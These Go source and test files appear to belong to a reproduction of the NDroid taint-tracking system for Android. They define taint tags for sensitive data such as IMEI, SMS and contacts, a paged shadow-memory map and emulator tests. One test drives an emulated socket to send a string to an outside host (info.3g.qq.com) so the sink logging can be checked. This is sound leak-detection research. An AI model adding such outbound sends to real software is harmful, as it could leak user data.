	fp = e.call(t, "fopen", path, mode)
	if got := e.call(t, "fread", dst, 1, 10, fp); got != 10 {
		t.Errorf("fread = %d, want 10", got)
	}
	if got := string(e.m.ReadBytes(dst, 10)); got != "0123456789" {
		t.Errorf("fread data = %q", got)
	}
}

func TestNetworkPath(t *testing.T) {
	e := newEnv(t)
	host := uint32(0x240000)
	msg := uint32(0x241000)
	e.m.WriteCString(host, "info.3g.qq.com")
	e.m.WriteCString(msg, "payload")

	sock := e.call(t, "socket", 2, 1, 0)
	if int32(sock) < 0 {
		t.Fatal("socket failed")
	}
	if got := e.call(t, "connect", sock, host, 80); got != 0 {
		t.Fatal("connect failed")
	}
	if got := e.call(t, "send", sock, msg, 7); got != 7 {
		t.Errorf("send = %d", got)
	}
	sent := e.k.Net.SentTo("info.3g.qq.com")
	if len(sent) != 1 || string(sent[0]) != "payload" {
		t.Fatalf("net log = %q", sent)
	}
}

func TestSscanf(t *testing.T) {
	e := newEnv(t)
	input, format, out1, out2 := uint32(0x250000), uint32(0x251000), uint32(0x252000), uint32(0x253000)
	e.m.WriteCString(input, "42 hello")
	e.m.WriteCString(format, "%d %s")
	if got := e.call(t, "sscanf", input, format, out1, out2); got != 2 {
		t.Fatalf("sscanf matched %d", got)
	}
	if e.m.Read32(out1) != 42 {
		t.Errorf("sscanf %%d = %d", e.m.Read32(out1))
	}
	if got := e.m.ReadCString(out2, 0); got != "hello" {
		t.Errorf("sscanf %%s = %q", got)
	}
}

func TestLibmDoubles(t *testing.T) {
	e := newEnv(t)
	// sqrt(16.0): bits of 16.0 = 0x4030000000000000
	lo, hi := uint32(0), uint32(0x40300000)
	e.call(t, "sqrt", lo, hi)
	if e.c.R[0] != 0 || e.c.R[1] != 0x40100000 { // 4.0
		t.Errorf("sqrt(16) regs = %#x %#x, want 0 0x40100000", e.c.R[0], e.c.R[1])
	}
	// pow(2.0, 10.0) = 1024.0 (0x4090000000000000)
	e.call(t, "pow", 0, 0x40000000, 0, 0x40240000)
	if e.c.R[0] != 0 || e.c.R[1] != 0x40900000 {
		t.Errorf("pow(2,10) regs = %#x %#x, want 0 0x40900000", e.c.R[0], e.c.R[1])
	}
}

func TestDlsym(t *testing.T) {
	e := newEnv(t)
	name := uint32(0x260000)
	e.m.WriteCString(name, "memcpy")
	h := e.call(t, "dlopen", 0, 0)
	addr := e.call(t, "dlsym", h, name)
	want, _ := e.l.Sym("memcpy")
	if addr != want {
		t.Errorf("dlsym(memcpy) = %#x, want %#x", addr, want)
	}
}

func TestVMAsRegistered(t *testing.T) {
	e := newEnv(t)
	v, ok := e.t.FindVMA(kernel.LibcBase + 0x100)
	if !ok || v.Name != "/system/lib/libc.so" {
		t.Errorf("libc VMA = %+v, ok=%v", v, ok)
	}
	v, ok = e.t.FindVMA(kernel.LibmBase)
	if !ok || v.Name != "/system/lib/libm.so" {
		t.Errorf("libm VMA = %+v, ok=%v", v, ok)
	}
}
