package taint

import (
	"strings"
	"testing"
	"testing/quick"
)

func TestTagUnion(t *testing.T) {
	got := Union(SMS, Contacts)
	if got != Tag(0x202) {
		t.Errorf("Union(SMS, Contacts) = %#x, want 0x202 (the Fig. 6 tag)", uint32(got))
	}
	if !got.Has(SMS) || !got.Has(Contacts) || got.Has(IMEI) {
		t.Error("Has() wrong on combined tag")
	}
}

func TestTagString(t *testing.T) {
	s := Tag(0x202).String()
	if !strings.Contains(s, "0x202") || !strings.Contains(s, "SMS") || !strings.Contains(s, "Contacts") {
		t.Errorf("Tag(0x202).String() = %q", s)
	}
	if Clear.String() != "Tag(0x0)" {
		t.Errorf("Clear.String() = %q", Clear.String())
	}
}

func TestTaintedPredicate(t *testing.T) {
	if Clear.Tainted() {
		t.Error("Clear must not be tainted")
	}
	if !IMEI.Tainted() {
		t.Error("IMEI must be tainted")
	}
}

func TestMemTaintBasic(t *testing.T) {
	m := NewMemTaint()
	if m.Get(0x1000) != Clear {
		t.Error("fresh map should be clear")
	}
	m.Set(0x1000, IMEI)
	if m.Get(0x1000) != IMEI {
		t.Error("Set/Get roundtrip failed")
	}
	m.Add(0x1000, SMS)
	if m.Get(0x1000) != IMEI|SMS {
		t.Error("Add should OR")
	}
	m.Set(0x1000, Clear)
	if m.Get(0x1000) != Clear || m.TaintedBytes() != 0 {
		t.Error("clearing should drop the byte and the count")
	}
}

func TestMemTaintRange(t *testing.T) {
	m := NewMemTaint()
	m.SetRange(0x2000, 8, Contacts)
	if m.GetRange(0x2000, 8) != Contacts {
		t.Error("range roundtrip failed")
	}
	if m.GetRange(0x2008, 4) != Clear {
		t.Error("adjacent range should be clear")
	}
	if m.TaintedBytes() != 8 {
		t.Errorf("TaintedBytes = %d, want 8", m.TaintedBytes())
	}
	if m.Get32(0x2004) != Contacts {
		t.Error("Get32 should see the taint")
	}
}

func TestMemTaintCrossesPages(t *testing.T) {
	m := NewMemTaint()
	m.SetRange(0x1ffe, 4, SMS) // straddles a 4K page boundary
	for i := uint32(0); i < 4; i++ {
		if m.Get(0x1ffe+i) != SMS {
			t.Errorf("byte %d lost across page boundary", i)
		}
	}
}

func TestMemTaintCopy(t *testing.T) {
	m := NewMemTaint()
	m.SetRange(0x100, 4, IMEI)
	m.Copy(0x200, 0x100, 8)
	if m.GetRange(0x200, 4) != IMEI {
		t.Error("copy should move taint")
	}
	if m.GetRange(0x204, 4) != Clear {
		t.Error("copy should also move clear-ness")
	}
	// Overlapping forward copy (memmove semantics).
	m.Reset()
	m.Set(0x300, Contacts)
	m.Copy(0x302, 0x300, 4)
	if m.Get(0x302) != Contacts {
		t.Error("overlapping copy lost taint")
	}
}

func TestMemTaintCountInvariant(t *testing.T) {
	// Property: after arbitrary Set operations, TaintedBytes matches a scan.
	f := func(ops []struct {
		Addr uint32
		Tag  uint16
	}) bool {
		m := NewMemTaint()
		ref := map[uint32]Tag{}
		for _, op := range ops {
			addr := op.Addr % 16384
			tag := Tag(op.Tag) & 0xffff
			m.Set(addr, tag)
			if tag == Clear {
				delete(ref, addr)
			} else {
				ref[addr] = tag
			}
		}
		if m.TaintedBytes() != len(ref) {
			return false
		}
		for a, want := range ref {
			if m.Get(a) != want {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestWordTaint(t *testing.T) {
	w := NewWordTaint()
	w.Add(0x1001, IMEI)
	if w.Get(0x1002) != IMEI {
		t.Error("word-granular map should alias within the word")
	}
	if w.Get(0x1004) != Clear {
		t.Error("next word should be clear")
	}
	w.Set(0x1000, Clear)
	if w.Get(0x1001) != Clear {
		t.Error("Set(Clear) should erase the word")
	}
}

// BenchmarkTaintAccess measures shadow-map lookups on the tracer's hot path
// (handleLoad/handleStore run one Get32/Set32 per traced memory access). The
// same-page pattern is what the lastPN/lastPg memo accelerates; it memoizes
// misses too, so scanning clean pages also skips the map.
func BenchmarkTaintAccess(b *testing.B) {
	b.Run("same-page-tainted", func(b *testing.B) {
		mt := NewMemTaint()
		mt.Set(0x8000, IMEI)
		var sink Tag
		for i := 0; i < b.N; i++ {
			addr := 0x8000 + uint32(i%256)*4
			mt.Set32(addr, IMEI)
			sink |= mt.Get32(addr)
		}
		_ = sink
	})
	b.Run("same-page-clean", func(b *testing.B) {
		mt := NewMemTaint()
		var sink Tag
		for i := 0; i < b.N; i++ {
			sink |= mt.Get32(0x8000 + uint32(i%256)*4)
		}
		_ = sink
	})
	b.Run("cross-page", func(b *testing.B) {
		mt := NewMemTaint()
		mt.Set(0x8000, IMEI)
		mt.Set(0x20000, SMS)
		var sink Tag
		for i := 0; i < b.N; i++ {
			addr := uint32(0x8000)
			if i&1 != 0 {
				addr = 0x20000 // alternate pages: every access misses the memo
			}
			sink |= mt.Get32(addr)
		}
		_ = sink
	})
}
