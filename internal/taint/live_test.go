package taint

import "testing"

// TestClearDropsPages: Set(addr, Clear) and SetRange(..., Clear) must drop
// fully-cleared pages so the incremental counter — and therefore the
// liveness aggregate gating the fast path — can reach exactly zero.
func TestClearDropsPages(t *testing.T) {
	m := NewMemTaint()
	m.SetRange(0x40000, 64, IMEI)
	m.Set(0x50000, SMS)
	if m.TaintedBytes() != 65 {
		t.Fatalf("TaintedBytes = %d, want 65", m.TaintedBytes())
	}
	if len(m.pages) != 2 {
		t.Fatalf("pages = %d, want 2", len(m.pages))
	}

	m.SetRange(0x40000, 64, Clear)
	m.Set(0x50000, Clear)
	if m.TaintedBytes() != 0 {
		t.Errorf("TaintedBytes after clear = %d, want 0", m.TaintedBytes())
	}
	if len(m.pages) != 0 {
		t.Errorf("pages after clear = %d, want 0 (fully-cleared pages must drop)", len(m.pages))
	}

	// Clearing a range that straddles pages, set via individual bytes.
	for i := uint32(0); i < 32; i++ {
		m.Set(0x60ff0+i, Contacts)
	}
	m.SetRange(0x60ff0, 32, Clear)
	if m.TaintedBytes() != 0 || len(m.pages) != 0 {
		t.Errorf("straddling clear left bytes=%d pages=%d", m.TaintedBytes(), len(m.pages))
	}
}

// TestLivenessEdges: Adjust must notify subscribers exactly on 0<->nonzero
// transitions, per source.
func TestLivenessEdges(t *testing.T) {
	l := NewLiveness()
	type edge struct {
		s    Source
		live bool
	}
	var edges []edge
	l.Subscribe(func(s Source, live bool) { edges = append(edges, edge{s, live}) })

	l.Adjust(SrcMem, 3)  // 0 -> 3: edge up
	l.Adjust(SrcMem, 2)  // 3 -> 5: no edge
	l.Adjust(SrcJava, 1) // 0 -> 1: edge up
	l.Adjust(SrcMem, -5) // 5 -> 0: edge down
	l.Adjust(SrcMem, 0)  // no-op

	want := []edge{{SrcMem, true}, {SrcJava, true}, {SrcMem, false}}
	if len(edges) != len(want) {
		t.Fatalf("edges = %v, want %v", edges, want)
	}
	for i := range want {
		if edges[i] != want[i] {
			t.Errorf("edge[%d] = %v, want %v", i, edges[i], want[i])
		}
	}
	if !l.Live() || l.Total() != 1 || l.Count(SrcJava) != 1 {
		t.Errorf("state: live=%v total=%d java=%d", l.Live(), l.Total(), l.Count(SrcJava))
	}
}

// TestLivenessNegativePanics: draining a source below zero is a bookkeeping
// bug and must fail loudly rather than silently disable instrumentation.
func TestLivenessNegativePanics(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("negative liveness count did not panic")
		}
	}()
	l := NewLiveness()
	l.Adjust(SrcRef, -1)
}

// TestMemTaintLivenessMirror: a MemTaint attached to a Liveness mirrors its
// byte count into SrcMem, including taint present before attachment, and
// Reset drains it to zero.
func TestMemTaintLivenessMirror(t *testing.T) {
	m := NewMemTaint()
	m.SetRange(0x1000, 10, IMEI)
	l := NewLiveness()
	m.AttachLiveness(l)
	if l.Count(SrcMem) != 10 {
		t.Errorf("pre-attach taint not contributed: %d, want 10", l.Count(SrcMem))
	}
	m.Set(0x2000, SMS)
	if l.Count(SrcMem) != 11 {
		t.Errorf("count = %d, want 11", l.Count(SrcMem))
	}
	m.Reset()
	if l.Count(SrcMem) != 0 || l.Live() {
		t.Errorf("after Reset: count=%d live=%v", l.Count(SrcMem), l.Live())
	}
}

// TestWordTaintLiveness: the ablation-only word map contributes SrcWord.
func TestWordTaintLiveness(t *testing.T) {
	w := NewWordTaint()
	l := NewLiveness()
	w.AttachLiveness(l)
	w.Add(0x1000, IMEI)
	w.Add(0x1002, SMS) // same word
	w.Set(0x2000, Contacts)
	if w.TaintedWords() != 2 || l.Count(SrcWord) != 2 {
		t.Errorf("words=%d live=%d, want 2/2", w.TaintedWords(), l.Count(SrcWord))
	}
	w.Set(0x1000, Clear)
	w.Set(0x2000, Clear)
	if w.TaintedWords() != 0 || l.Count(SrcWord) != 0 {
		t.Errorf("after clear: words=%d live=%d", w.TaintedWords(), l.Count(SrcWord))
	}
}
