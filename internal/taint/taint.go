// Package taint defines the taint-tag algebra shared by every layer of the
// NDroid reproduction: the Dalvik interpreter (TaintDroid rules), the native
// instruction tracer (Table V rules), the system-library models (Table VI),
// and the sink checkers (Table VII).
//
// Tags follow TaintDroid's representation: a 32-bit integer in which each bit
// names one category of sensitive information, combined with bitwise OR. The
// constants below are TaintDroid's own TAINT_* values, so logs produced by
// this reproduction show the same tag numbers the paper shows (e.g. 0x202 =
// SMS|Contacts in Fig. 6, 0x2 = Contacts in Fig. 8).
package taint

import (
	"sort"
	"strings"
)

// Tag is a 32-bit taint label. The zero value means "untainted".
type Tag uint32

// TaintDroid tag constants (one bit per category of sensitive information).
const (
	Clear         Tag = 0x0
	Location      Tag = 0x1
	Contacts      Tag = 0x2
	Mic           Tag = 0x4
	PhoneNumber   Tag = 0x8
	LocationGPS   Tag = 0x10
	LocationNet   Tag = 0x20
	LocationLast  Tag = 0x40
	Camera        Tag = 0x80
	Accelerometer Tag = 0x100
	SMS           Tag = 0x200
	IMEI          Tag = 0x400
	IMSI          Tag = 0x800
	ICCID         Tag = 0x1000
	DeviceSN      Tag = 0x2000
	Account       Tag = 0x4000
	History       Tag = 0x8000
)

var tagNames = map[Tag]string{
	Location:      "Location",
	Contacts:      "Contacts",
	Mic:           "Mic",
	PhoneNumber:   "PhoneNumber",
	LocationGPS:   "LocationGPS",
	LocationNet:   "LocationNet",
	LocationLast:  "LocationLast",
	Camera:        "Camera",
	Accelerometer: "Accelerometer",
	SMS:           "SMS",
	IMEI:          "IMEI",
	IMSI:          "IMSI",
	ICCID:         "ICCID",
	DeviceSN:      "DeviceSN",
	Account:       "Account",
	History:       "History",
}

// Union combines two tags; taint propagation in every engine reduces to this.
func Union(a, b Tag) Tag { return a | b }

// Tainted reports whether the tag carries any taint.
func (t Tag) Tainted() bool { return t != 0 }

// Has reports whether every bit of other is present in t.
func (t Tag) Has(other Tag) bool { return t&other == other }

// String renders the tag as "Tag(0x202:SMS|Contacts)"-style text.
func (t Tag) String() string {
	if t == 0 {
		return "Tag(0x0)"
	}
	var parts []string
	for bit, name := range tagNames {
		if t&bit != 0 {
			parts = append(parts, name)
		}
	}
	sort.Strings(parts)
	var b strings.Builder
	b.WriteString("Tag(0x")
	b.WriteString(hex32(uint32(t)))
	if len(parts) > 0 {
		b.WriteString(":")
		b.WriteString(strings.Join(parts, "|"))
	}
	b.WriteString(")")
	return b.String()
}

func hex32(v uint32) string {
	const digits = "0123456789abcdef"
	if v == 0 {
		return "0"
	}
	var buf [8]byte
	i := len(buf)
	for v > 0 {
		i--
		buf[i] = digits[v&0xf]
		v >>= 4
	}
	return string(buf[i:])
}
