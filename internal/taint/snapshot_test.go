package taint

import "testing"

// TestMemTaintSnapshotRestore exercises the shadow map's COW cycle: taint
// set after the snapshot disappears on restore, baseline taint cleared by the
// attempt comes back, and the tainted-byte counter rewinds with the pages.
func TestMemTaintSnapshotRestore(t *testing.T) {
	m := NewMemTaint()
	m.Set(0x1000, Tag(1))
	m.Snapshot()
	if !m.SnapshotActive() {
		t.Fatal("snapshot not active")
	}

	m.Set(0x1000, 0)      // clear baseline taint (COW)
	m.Set(0x2000, Tag(2)) // taint a fresh page
	if got := m.TaintedBytes(); got != 1 {
		t.Fatalf("TaintedBytes mid-attempt = %d, want 1", got)
	}

	if n := m.Restore(); n == 0 {
		t.Fatal("Restore reset no pages")
	}
	if got := m.Get(0x1000); got != Tag(1) {
		t.Fatalf("baseline taint after restore = %v, want 1", got)
	}
	if got := m.Get(0x2000); got != 0 {
		t.Fatalf("attempt taint survived restore: %v", got)
	}
	if got := m.TaintedBytes(); got != 1 {
		t.Fatalf("TaintedBytes after restore = %d, want 1", got)
	}
}

// TestMemTaintSnapshotMemoInvalidation is the shadow-map side of the
// stale-memo regression: read through the memo, restore (page swap), read
// again — the memo must never serve the discarded page copy.
func TestMemTaintSnapshotMemoInvalidation(t *testing.T) {
	m := NewMemTaint()
	m.Set(0x1000, Tag(1))
	m.Snapshot()

	m.Set(0x1001, Tag(2)) // COW the page
	if got := m.Get(0x1000); got != Tag(1) {
		t.Fatalf("pre-restore read = %v, want 1", got)
	}

	m.Restore()
	if got := m.Get(0x1001); got != 0 {
		t.Fatalf("memo served stale taint page after restore: %v", got)
	}

	// Write path: a Set through a stale memo must not scribble on the
	// restored baseline array.
	m.Set(0x1002, Tag(4))
	m.Restore()
	if got := m.Get(0x1002); got != 0 {
		t.Fatalf("baseline corrupted through stale write memo: %v", got)
	}
}

// TestMemTaintResetUnderSnapshot checks Reset (drop all taint) keeps the
// baseline recoverable.
func TestMemTaintResetUnderSnapshot(t *testing.T) {
	m := NewMemTaint()
	m.SetRange(0x1000, 8, Tag(1))
	m.Snapshot()
	m.Reset()
	if got := m.TaintedBytes(); got != 0 {
		t.Fatalf("TaintedBytes after reset = %d, want 0", got)
	}
	m.Restore()
	if got := m.GetRange(0x1000, 8); got != Tag(1) {
		t.Fatalf("baseline taint after reset+restore = %v, want 1", got)
	}
	if got := m.TaintedBytes(); got != 8 {
		t.Fatalf("TaintedBytes after restore = %d, want 8", got)
	}
}

// TestMemTaintRestoreDetachesLiveness checks Restore detaches the liveness
// aggregate (the next attempt attaches its own, re-contributing the count).
func TestMemTaintRestoreDetachesLiveness(t *testing.T) {
	m := NewMemTaint()
	m.Set(0x1000, Tag(1))
	m.Snapshot()

	l := NewLiveness()
	m.AttachLiveness(l)
	if l.Total() != 1 {
		t.Fatalf("liveness total = %d, want 1", l.Total())
	}
	m.Restore()
	// Post-restore mutations must not touch the detached aggregate.
	m.Set(0x2000, Tag(2))
	if l.Total() != 1 {
		t.Fatalf("detached liveness moved: total = %d", l.Total())
	}
	l2 := NewLiveness()
	m.AttachLiveness(l2)
	if l2.Total() != 2 {
		t.Fatalf("re-attached liveness total = %d, want 2", l2.Total())
	}
}
