package taint

import "repro/internal/fault"

// Liveness is the process-wide taint-presence aggregate behind the
// demand-driven fast path (DESIGN.md "Dual-mode execution"). Each layer that
// can hold taint contributes a per-source count of live tags; execution
// layers consult Live() (one integer compare) to decide whether the
// expensive instrumented path can be skipped, and subscribers get an
// edge-triggered callback whenever a source transitions between "no taint"
// and "some taint" so an in-flight fast-path block can be redirected
// mid-run.
//
// Liveness is deliberately not goroutine-safe: like the rest of the emulated
// stack it runs on the single analysis thread.
type Liveness struct {
	counts [numSources]int
	total  int
	subs   []func(s Source, live bool)
}

// Source identifies one layer's contribution to the aggregate.
type Source uint8

const (
	// SrcMem counts tainted bytes in the native byte-granular shadow map
	// (MemTaint mirrors its incremental TaintedBytes counter here).
	SrcMem Source = iota
	// SrcRef counts tainted indirect-reference shadow entries (§V-E's
	// object-taint map at the JNI boundary).
	SrcRef
	// SrcJava counts Java-side taint: frame taint slots, object and field
	// tags, and static-field tags. The DVM maintains it as an edge-up latch
	// (see dvm.VM.NoteTaint) — precise on the first introduction, released
	// only on explicit reset — which is conservative but sound.
	SrcJava
	// SrcWord counts tainted words in the ablation-only word-granular map.
	SrcWord
	numSources
)

var sourceNames = [numSources]string{"mem", "ref", "java", "word"}

// String names the source for logs and bench reports.
func (s Source) String() string {
	if int(s) < len(sourceNames) {
		return sourceNames[s]
	}
	return "unknown"
}

// NewLiveness returns an empty aggregate (no taint anywhere).
func NewLiveness() *Liveness { return &Liveness{} }

// Adjust adds delta to one source's count. Subscribers are notified when the
// source crosses zero in either direction. Counts never go negative; a
// drain below zero indicates a bookkeeping bug and panics loudly rather
// than silently disabling instrumentation.
func (l *Liveness) Adjust(s Source, delta int) {
	if delta == 0 {
		return
	}
	old := l.counts[s]
	now := old + delta
	if now < 0 {
		// Still a loud stop — disabling instrumentation silently would be
		// unsound — but typed, so the top-level containment reports it as an
		// InternalError fault instead of a process crash.
		panic(&fault.Fault{
			Kind: fault.InternalError, Layer: "taint",
			Detail: "liveness count for source " + s.String() + " went negative",
		})
	}
	l.counts[s] = now
	l.total += delta
	if (old == 0) != (now == 0) {
		for _, fn := range l.subs {
			fn(s, now != 0)
		}
	}
}

// Count returns one source's live-tag count.
func (l *Liveness) Count(s Source) int { return l.counts[s] }

// Total returns the sum over all sources.
func (l *Liveness) Total() int { return l.total }

// Live reports whether any counted taint exists anywhere in the process.
// Native CPU register taint is not counted here (the CPU scans its 16
// shadow registers directly, which is cheaper than write-instrumenting
// every Table V handler); callers gating native work must also consult
// arm.CPU.TaintedRegs.
func (l *Liveness) Live() bool { return l.total != 0 }

// Subscribe registers an edge callback: fn(s, true) when source s gains its
// first live tag, fn(s, false) when it drains back to zero.
func (l *Liveness) Subscribe(fn func(s Source, live bool)) {
	l.subs = append(l.subs, fn)
}
