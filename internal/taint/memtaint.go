package taint

// MemTaint is a byte-granular shadow-taint map over the 32-bit guest address
// space, mirroring NDroid's taint map ("The taint granularity of NDroid is
// byte", §V-E). It is paged so that sparse use stays cheap.
type MemTaint struct {
	pages map[uint32]*taintPage
	// count of currently tainted bytes, maintained incrementally so invariant
	// checks and tests can assert on it without a full scan.
	tainted int

	// lastPN/lastPg memoize the most recently resolved page (mirroring the
	// CPU's decode-page memo): the data path hits the same page repeatedly,
	// so most lookups skip the map. lastPg may be nil for a memoized miss;
	// the memo is reset whenever a page is created or deleted.
	lastPN uint32
	lastPg *taintPage

	// live, when attached, mirrors the tainted counter into the process-wide
	// liveness aggregate so the execution layers' zero-taint fast path can
	// flip edge-triggered on the first Set/SetRange.
	live *Liveness

	// Copy-on-write snapshot state, mirroring mem.Memory: shared marks pages
	// whose arrays belong to the snapshot baseline, dirty logs the baseline
	// pointer (nil = page created after the snapshot) on first mutation, and
	// Restore swaps the logged pages back in O(dirty pages).
	snapActive  bool
	shared      map[uint32]bool
	dirty       map[uint32]*taintPage
	snapTainted int
}

const (
	pageShift = 12
	pageSize  = 1 << pageShift
	pageMask  = pageSize - 1
)

type taintPage struct {
	tags [pageSize]Tag
	used int // number of non-zero entries on this page
}

// NewMemTaint returns an empty shadow-taint map.
func NewMemTaint() *MemTaint {
	return &MemTaint{
		pages:  make(map[uint32]*taintPage),
		lastPN: ^uint32(0),
	}
}

// AttachLiveness mirrors the map's tainted-byte count into l's SrcMem
// source, contributing any taint already present.
func (m *MemTaint) AttachLiveness(l *Liveness) {
	m.live = l
	if m.tainted != 0 {
		l.Adjust(SrcMem, m.tainted)
	}
}

// bump moves the tainted-byte counter and propagates the delta to the
// attached liveness aggregate.
func (m *MemTaint) bump(delta int) {
	m.tainted += delta
	if m.live != nil {
		m.live.Adjust(SrcMem, delta)
	}
}

// pageAt resolves a page number through the one-entry memo. The memoized
// value may be nil (a remembered miss), which is as useful as a hit: clean
// scans over unmapped pages skip the map too.
func (m *MemTaint) pageAt(pn uint32) *taintPage {
	if pn == m.lastPN {
		return m.lastPg
	}
	p := m.pages[pn]
	m.lastPN, m.lastPg = pn, p
	return p
}

// writable returns a page safe to mutate: a page still owned by the snapshot
// baseline is copied first (copy-on-first-write) and the baseline logged for
// Restore. p must be the current pages[pn] entry (or nil).
func (m *MemTaint) writable(pn uint32, p *taintPage) *taintPage {
	if p == nil || !m.snapActive || !m.shared[pn] {
		return p
	}
	np := &taintPage{tags: p.tags, used: p.used}
	m.pages[pn] = np
	delete(m.shared, pn)
	if _, logged := m.dirty[pn]; !logged {
		m.dirty[pn] = p
	}
	if m.lastPN == pn {
		m.lastPg = np
	}
	return np
}

func (m *MemTaint) notePageCreated(pn uint32) {
	if m.snapActive {
		if _, logged := m.dirty[pn]; !logged {
			m.dirty[pn] = nil
		}
	}
}

func (m *MemTaint) dropPage(pn uint32) {
	delete(m.pages, pn)
	if m.lastPN == pn {
		m.lastPg = nil
	}
}

// Get returns the taint of the byte at addr.
func (m *MemTaint) Get(addr uint32) Tag {
	p := m.pageAt(addr >> pageShift)
	if p == nil {
		return Clear
	}
	return p.tags[addr&pageMask]
}

// Set assigns tag to the byte at addr (overwriting, not ORing).
func (m *MemTaint) Set(addr uint32, tag Tag) {
	pn := addr >> pageShift
	p := m.pageAt(pn)
	if p == nil {
		if tag == Clear {
			return
		}
		p = &taintPage{}
		m.pages[pn] = p
		m.notePageCreated(pn)
		m.lastPN, m.lastPg = pn, p
	}
	old := p.tags[addr&pageMask]
	if old == tag {
		return
	}
	p = m.writable(pn, p)
	p.tags[addr&pageMask] = tag
	switch {
	case old == Clear && tag != Clear:
		p.used++
		m.bump(1)
	case old != Clear && tag == Clear:
		p.used--
		m.bump(-1)
		if p.used == 0 {
			m.dropPage(pn)
		}
	}
}

// Add ORs tag into the byte at addr.
func (m *MemTaint) Add(addr uint32, tag Tag) {
	if tag == Clear {
		return
	}
	m.Set(addr, m.Get(addr)|tag)
}

// SetRange assigns tag to n consecutive bytes starting at addr. Clearing
// ranges on pages that hold no taint is free.
func (m *MemTaint) SetRange(addr, n uint32, tag Tag) {
	if tag == Clear {
		for i := uint32(0); i < n; {
			pn := (addr + i) >> pageShift
			off := (addr + i) & pageMask
			chunk := pageSize - off
			if chunk > n-i {
				chunk = n - i
			}
			if p := m.pageAt(pn); p != nil {
				cleared := 0
				for j := uint32(0); j < chunk; j++ {
					if p.tags[off+j] != Clear {
						if cleared == 0 {
							p = m.writable(pn, p)
						}
						p.tags[off+j] = Clear
						p.used--
						cleared++
					}
				}
				if cleared != 0 {
					m.bump(-cleared)
				}
				if p.used == 0 {
					m.dropPage(pn)
				}
			}
			i += chunk
		}
		return
	}
	for i := uint32(0); i < n; i++ {
		m.Set(addr+i, tag)
	}
}

// AddRange ORs tag into n consecutive bytes starting at addr.
func (m *MemTaint) AddRange(addr, n uint32, tag Tag) {
	for i := uint32(0); i < n; i++ {
		m.Add(addr+i, tag)
	}
}

// GetRange returns the union of the taints of n consecutive bytes at addr.
// Pages with no taint are skipped wholesale, so scanning clean buffers (the
// common case at sinks) costs one map lookup per page.
func (m *MemTaint) GetRange(addr, n uint32) Tag {
	var t Tag
	for i := uint32(0); i < n; {
		pn := (addr + i) >> pageShift
		p := m.pageAt(pn)
		off := (addr + i) & pageMask
		chunk := pageSize - off
		if chunk > n-i {
			chunk = n - i
		}
		if p != nil {
			for j := uint32(0); j < chunk; j++ {
				t |= p.tags[off+j]
			}
		}
		i += chunk
	}
	return t
}

// Get32 returns the union taint of the 4 bytes of the word at addr, the
// common case for register-sized loads.
func (m *MemTaint) Get32(addr uint32) Tag { return m.GetRange(addr, 4) }

// Set32 assigns tag to the 4 bytes of the word at addr.
func (m *MemTaint) Set32(addr uint32, tag Tag) { m.SetRange(addr, 4, tag) }

// ClearRange removes taint from n consecutive bytes starting at addr.
func (m *MemTaint) ClearRange(addr, n uint32) { m.SetRange(addr, n, Clear) }

// Copy propagates the taints of n bytes at src to the n bytes at dst,
// byte-for-byte (the memcpy model of Listing 3).
func (m *MemTaint) Copy(dst, src, n uint32) {
	if dst == src || n == 0 {
		return
	}
	if dst < src || dst >= src+n {
		for i := uint32(0); i < n; i++ {
			m.Set(dst+i, m.Get(src+i))
		}
		return
	}
	// Overlapping with dst inside [src,src+n): copy backwards (memmove).
	for i := n; i > 0; i-- {
		m.Set(dst+i-1, m.Get(src+i-1))
	}
}

// TaintedBytes returns how many bytes currently carry taint.
func (m *MemTaint) TaintedBytes() int { return m.tainted }

// Reset drops all taint. Under an active snapshot the baseline pages stay
// owned by the snapshot (logged as dirty so Restore brings them back).
func (m *MemTaint) Reset() {
	if m.snapActive {
		for pn, p := range m.pages {
			if m.shared[pn] {
				delete(m.shared, pn)
				if _, logged := m.dirty[pn]; !logged {
					m.dirty[pn] = p
				}
			}
		}
	}
	m.pages = make(map[uint32]*taintPage)
	m.bump(-m.tainted)
	m.lastPN, m.lastPg = ^uint32(0), nil
}

// Snapshot captures the current shadow map copy-on-write, mirroring
// mem.Memory.Snapshot: mapped taint pages are marked shared, mutators copy on
// first write, and Restore rewinds in O(dirty pages). A second Snapshot moves
// the baseline forward.
func (m *MemTaint) Snapshot() {
	if m.shared == nil {
		m.shared = make(map[uint32]bool, len(m.pages))
	}
	for pn := range m.pages {
		m.shared[pn] = true
	}
	m.dirty = make(map[uint32]*taintPage)
	m.snapTainted = m.tainted
	m.snapActive = true
	m.lastPN, m.lastPg = ^uint32(0), nil
}

// SnapshotActive reports whether a copy-on-write baseline is in place.
func (m *MemTaint) SnapshotActive() bool { return m.snapActive }

// DirtyPages reports how many taint pages have been mutated (or created)
// since the last Snapshot.
func (m *MemTaint) DirtyPages() int { return len(m.dirty) }

// Restore rewinds the shadow map to the last Snapshot and returns the number
// of pages reset. The attached Liveness (if any) is detached rather than
// adjusted: restore is an between-attempts operation and the next attempt
// attaches its own aggregate (AttachLiveness re-contributes the restored
// count). The page memo is invalidated so a stale pointer to a swapped page
// can never be served.
func (m *MemTaint) Restore() int {
	if !m.snapActive {
		return 0
	}
	n := len(m.dirty)
	for pn, base := range m.dirty {
		if base != nil {
			m.pages[pn] = base
			m.shared[pn] = true
		} else {
			delete(m.pages, pn)
		}
	}
	m.dirty = make(map[uint32]*taintPage)
	m.tainted = m.snapTainted
	m.live = nil
	m.lastPN, m.lastPg = ^uint32(0), nil
	return n
}

// WordTaint is a coarser, word-granular shadow map used only by the
// granularity-ablation benchmark (DESIGN.md §4.4).
type WordTaint struct {
	tags map[uint32]Tag // keyed by addr>>2
	live *Liveness
}

// NewWordTaint returns an empty word-granular map.
func NewWordTaint() *WordTaint { return &WordTaint{tags: make(map[uint32]Tag)} }

// AttachLiveness mirrors the map's tainted-word count into l's SrcWord
// source.
func (w *WordTaint) AttachLiveness(l *Liveness) {
	w.live = l
	if n := len(w.tags); n != 0 {
		l.Adjust(SrcWord, n)
	}
}

func (w *WordTaint) bump(delta int) {
	if w.live != nil {
		w.live.Adjust(SrcWord, delta)
	}
}

// Get returns the taint of the word containing addr.
func (w *WordTaint) Get(addr uint32) Tag { return w.tags[addr>>2] }

// Add ORs tag into the word containing addr.
func (w *WordTaint) Add(addr uint32, tag Tag) {
	if tag == Clear {
		return
	}
	k := addr >> 2
	if w.tags[k] == Clear {
		w.bump(1)
	}
	w.tags[k] |= tag
}

// Set assigns tag to the word containing addr.
